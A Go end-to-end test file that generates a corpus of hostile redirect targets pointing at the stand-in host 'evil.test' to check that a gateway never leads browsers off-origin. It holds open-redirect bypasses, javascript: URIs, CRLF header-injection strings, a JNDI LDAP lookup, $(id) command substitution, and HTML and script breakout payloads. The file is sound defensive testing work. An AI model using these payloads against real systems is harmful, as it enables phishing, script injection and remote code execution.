// This file holds destinations that would lead a browser off this origin, if
// some part took them for what they look like.
package e2e

import (
	"net/url"
	"slices"
	"strings"
)

// offSite is where the corpus leads. It has no address, and the browser of the
// test would not ask for it.
const offSite = "evil.test"

// tricks make the corpus, the same values in each run.
var tricks = []func() []string{
	startsBeforeHosts, schemes, authorities, encodings, lookAlikes, droppedCharacters, dotSegments, splitting, placeholders, markup, lengths,
}

// hostileDestinations are all values, each once, in one order.
func hostileDestinations() []string {
	all := slices.Clone(knownHoles)
	for _, trick := range tricks {
		all = append(all, trick()...)
	}
	slices.Sort(all)
	return slices.Compact(all)
}

// product joins each of the first with each of the next, and so on.
func product(parts ...[]string) []string {
	all := []string{""}
	for _, part := range parts {
		var longer []string
		for _, start := range all {
			for _, end := range part {
				longer = append(longer, start+end)
			}
		}
		all = longer
	}
	return all
}

// startsBeforeHosts: what stands before a host decides whether it is one.
func startsBeforeHosts() []string {
	return product(
		[]string{
			"", "/", "//", "///", "////", `\`, `/\`, `\/`, `\\`, `/\/`, `//\`, `/\\`, `///\`, "?//", "#//", "/?//", "/#//", "/?to=//", "/;//", "/:@",
			"/@", "/x//", "/x/", ".//", "..//", "*//", "/*//", "|//", "/.device/login?to=//", "/.device/logout?to=//",
		},
		[]string{offSite, offSite + "/x?y#z", "user@" + offSite, "localhost@" + offSite, "localhost." + offSite, "[::1]:1"},
	)
}

// schemes: RFC 3986 §3.1, and what WHATWG URL §4.4 makes of them.
func schemes() []string {
	all := product(
		[]string{"http", "HTTPS", "ftp", "file", "ws", "blob:http", "view-source:http", "x"},
		[]string{":", ":/", "://", ":///", `:\\`, ":/\\"},
		[]string{offSite},
	)
	return append(all, product(
		[]string{"", "/", "//", " ", "\t", "\x01"},
		[]string{"javascript:", "JaVaScRiPt:", "java\tscript:", "java\r\nscript:", "javascript&#58;", "javascript%3A", "data:text/html,", "vbscript:", "livescript:"},
		[]string{"alert(1)", "//%0Aalert(1)"},
	)...)
}

// authorities: RFC 3986 §3.2, in all the ways in which a host can be written.
func authorities() []string {
	return product(
		[]string{"//", `/\`, "http://", "///"},
		[]string{
			"localhost:1@" + offSite, "localhost%40" + offSite, "localhost%23@" + offSite, "localhost#@" + offSite, "localhost?@" + offSite, `localhost\@` + offSite,
			"localhost;@" + offSite, "localhost&@" + offSite, ":@" + offSite, "@" + offSite, "@@" + offSite, offSite + ":80", offSite + ":", offSite + ".", offSite + "%00.localhost",
			"[::1]", "[::ffff:127.0.0.1]", "[fe80::1%25lo]", "[v1.x]", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "0", "%6c%6fcalhost." + offSite,
		},
	)
}

// encodings: what is decoded once too often leads away.
func encodings() []string {
	return product(
		[]string{"/", "", "/x/"},
		[]string{
			"%2f", "%2F%2f", "%5c", "%5C%5c", "%2f%5c", "%252f", "%25252f%25252f", "%255c", "%c0%af", "%c0%af%c0%af", "%e0%80%af", "%c1%9c", "%u002f", "%u2215", "%09/", "%0a/", "%00/",
			"%20/", "%ef%bc%8f", "%E2%88%95%E2%88%95", "%3f//", "%23//", "&#47;", "&sol;&sol;", `\u002f`, `\x2f`, `\57`, "%", "%2", "%zz/", "+/",
		},
		[]string{offSite, "/" + offSite},
	)
}

// lookAlikes: characters that some part makes a slash, a backslash, a dot or
// an at sign of (Unicode NFKC, best fit, UTS 46).
func lookAlikes() []string {
	var all []string
	for _, slash := range []string{"／", "∕", "⁄", "⧸", "＼", "﹨", "⑊", "〳", "\u0338"} {
		all = append(all, slash+slash+offSite, "/"+slash+offSite, "//"+slash+offSite)
	}
	for _, dot := range []string{"。", "．", "｡", "․", "\u00ad."} {
		all = append(all, "//evil"+dot+"test", "/"+dot+"//"+offSite, "///evil"+dot+"test")
	}
	for _, char := range []string{"＠", "﹫", "：", "？", "＃", "℀", "⒈", "ﬀ", "ß", "\u202e", "\u200b", "\ufeff"} {
		all = append(all, "//localhost"+char+offSite, "/"+char+"/"+offSite)
	}
	return append(all, "//\xe3\x80\x82"+offSite, "/\xff/"+offSite, "/\xc0\xaf"+offSite, "/\xed\xa0\x80/"+offSite)
}

// droppedCharacters: browsers take tabs and newlines out, and controls and
// spaces off both ends, before they parse (WHATWG URL §4.4).
func droppedCharacters() []string {
	chars := []string{"\u0080", "\u0085", "\u00a0", "\u2028", "\u2029", "\u3000", "\u180e", "\u2060"}
	for c := range byte(' ' + 1) {
		chars = append(chars, string(rune(c)))
	}
	chars = append(chars, "\x7f")
	var all []string
	for _, c := range chars {
		all = append(all, c+"//"+offSite, "/"+c+"/"+offSite, "//"+c+offSite, "/"+c+`\`+offSite)
	}
	return all
}

// dotSegments: what is left once they are taken out (RFC 3986 §5.2.4).
func dotSegments() []string {
	return product(
		[]string{"/.", "/..", "/x/..", "/%2e", "/%2E%2e", "/.%2e", "/..;", "/.;x", "/x/../..", "/./.", "/.../..", "/..%00", "/.device/..", "/.device/login/../.."},
		[]string{"//", `/\`, `\\`, "/%2f", "//../", "///"},
		[]string{offSite},
	)
}

// splitting: an end of the line, and what a second header field would do.
func splitting() []string {
	return product(
		[]string{"/", "/x", "//" + offSite},
		[]string{"\r\n", "\n", "\r", "%0d%0a", "%0D%0A%20", "\u560d\u560a", "%E5%98%8D%E5%98%8A", "\u0085", "%250d%250a", "\r\n\r\n"},
		[]string{"Location: //" + offSite, "Set-Cookie: a=b", "Refresh: 0;url=//" + offSite},
	)
}

// placeholders: Caddy's, and those of templates and shells.
func placeholders() []string {
	return product(
		[]string{"", "/", "//"},
		[]string{
			"{{.Req.Host}}", `{{"//` + offSite + `"}}`, "{http.request.header.X-Forwarded-Host}", "{http.request.header.X-Forwarded-Host}/x", "{env.HOME}", "{file./etc/hostname}",
			"{path}", "{?}", "{", "}", "${jndi:ldap://" + offSite + "}", "$(id)", "`id`", "#{7*7}", "<%= 7*7 %>", "%{7*7}", "{{constructor.constructor('x')()}}",
		},
	)
}

// markup: a value that ends the attribute, the string or the script it is in.
func markup() []string {
	go1 := "url=//" + offSite
	return product(
		[]string{"/", "/x"},
		[]string{
			`"><meta http-equiv=refresh content="0;` + go1 + `">`, `';location='//` + offSite + `'//`, `";location="//` + offSite + `"//`, "</script><script>location='//" + offSite + "'</script>",
			"</noscript><base href=//" + offSite + ">", ";" + go1, "'" + go1, `"` + go1, "," + go1, "&to=//" + offSite, "?to=//" + offSite, "&again=1&to=//" + offSite, "\u2028location='//" + offSite + "'",
			`\";location='//` + offSite + `'//`, "<!--<script>", "&quot;&gt;&lt;base href=//" + offSite + "&gt;", "' autofocus formaction='//" + offSite,
		},
	)
}

// lengths: up to the limit and over it, so that nothing is cut at a bad place.
func lengths() []string {
	var all []string
	for _, n := range []int{255, 1024, 4095, 4096, 4097, 8192} {
		all = append(all,
			"/"+strings.Repeat("a", n-1), strings.Repeat("/", n-len(offSite))+offSite, "/"+strings.Repeat("../", n/3)+"/"+offSite,
			"/"+strings.Repeat("a", n-len(offSite)-3)+"//"+offSite, "/"+strings.Repeat("%2f", n/3)+offSite)
	}
	return all
}

// knownHoles are values of the kind that led off other gateways and
// frameworks: sign-in proxies, OAuth clients, web frameworks and URL parsers.
var knownHoles = []string{
	"/\t/" + offSite, "/\n/" + offSite, "/\\\t" + offSite, "/\t\\" + offSite, "/\r\\" + offSite, // white space in between
	"/\\" + offSite + "/..", "//" + offSite + "/%2e%2e", "//" + offSite + "/%2f..", "///" + offSite + "/%2f%2e%2e", // the static files of a server that puts a slash at the end
	"/%5c" + offSite, "/%09/" + offSite, "/%2f" + offSite, "/%2f%2f" + offSite + "/%2e%2e", // decoded on the way
	"https:" + offSite, "https:/" + offSite, "https:/\\" + offSite, "http:///" + offSite, "http:\\\\" + offSite, // a scheme without an authority
	"//" + offSite + "\\@localhost", "https://localhost\\@" + offSite, "https://localhost\\." + offSite, "//localhost&@" + offSite + "#@localhost", // two parsers, two hosts
	"/redirect?to=" + url.QueryEscape("//"+offSite), "/?url=http://" + offSite, "/.device/login?to=%2F%2F" + offSite, "/.device/login?to=/&to=//" + offSite, // one more hop
	"//;@" + offSite, "/;@" + offSite, "/.." + offSite, "/." + offSite, "." + offSite, "@" + offSite, ":80@" + offSite, // glued to the host
	"//" + offSite + ":80#localhost", "//" + offSite + "?localhost", "//" + offSite + "/localhost", "//localhost." + offSite, "//localhost" + offSite, // a check that looks for the name
	`/\\//` + offSite, "/.//" + offSite, "/x/..//" + offSite, "/%2e%2e//" + offSite, // cleaned after the check
	"//0x7f.1", "//0", "//[::]", "//①②⑦.⓪.⓪.①", "//ⓔⓥⓘⓛ.test", "//evil%E3%80%82test", "//%65vil.test", // hosts in disguise
}
